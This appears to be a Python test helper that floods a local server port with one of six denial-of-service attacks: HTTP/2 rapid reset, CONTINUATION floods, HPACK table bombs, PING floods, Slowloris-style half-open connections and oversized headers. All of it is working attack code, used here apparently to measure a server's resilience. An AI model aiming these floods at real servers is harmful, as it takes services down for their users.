#!/usr/bin/env python3
"""One kind of flood against a port, until it is ended: flooder.py KIND PORT PATH. A process of its own, so that it does not keep the
client that measures from its clock."""
import contextlib
import os
import socket
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
HEADERS, RST_STREAM, PING, CONTINUATION = 1, 3, 6, 9
END_STREAM, END_HEADERS = 1, 4
IDLE = 500  # connections that say half a head


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def section(path):
    """:method POST, :scheme http, :path, :authority a; indexes of HPACK's static table, and literals that are not kept."""
    return b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x01a"


def connect(port):
    connection = socket.create_connection(("127.0.0.1", port), 30)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def resets(port, path):
    pair = section(path)
    with connect(port) as connection:
        connection.sendall(PREFACE)
        for first in range(1, 200_000, 200):
            connection.sendall(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, pair) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                                        for stream in range(first, first + 200, 2)))


def continuations(port, path):
    with connect(port) as connection:
        connection.sendall(PREFACE + frame(HEADERS, 0, 1, section(path)))
        while True:
            connection.sendall(frame(CONTINUATION, 0, 1, b"\x82" * 1000) * 10)


def bombs(port, path):
    """A field of 4 kB in the table, and sections of references to it."""
    with connect(port) as connection:
        connection.sendall(PREFACE + frame(HEADERS, END_HEADERS | END_STREAM, 1, section(path) + b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000))
        for stream in range(3, 200_000, 2):
            connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, section(path) + b"\xbe" * 12_000))


def pings(port, _):
    with connect(port) as connection:
        connection.sendall(PREFACE)
        while True:
            connection.sendall(frame(PING, 0, 0, bytes(8)) * 1000)


def connections(port, path):
    """As many as stay open, each with half a head; the oldest makes room."""
    with contextlib.ExitStack() as stack:
        for _ in range(IDLE):
            connection = stack.enter_context(connect(port))
            connection.sendall(b"POST " + path + b" HTTP/1.1\r\nHost:")


def heads(port, path):
    with connect(port) as connection:
        connection.sendall(b"POST " + path + b" HTTP/1.1\r\nHost: a\r\n" + b"X: 1\r\n" * 1000 + b"\r\n")
        while connection.recv(1 << 16):
            pass


KINDS = {"resets": resets, "continuations": continuations, "bombs": bombs, "pings": pings, "connections": connections, "heads": heads}


def main():
    kind, port, path = sys.argv[1:]
    os.nice(19)  # the client that measures is on the same core
    while True:
        # It has had enough of one connection: here is another.
        with contextlib.suppress(ConnectionError, TimeoutError):
            KINDS[kind](int(port), path.encode())


if __name__ == "__main__":
    main()
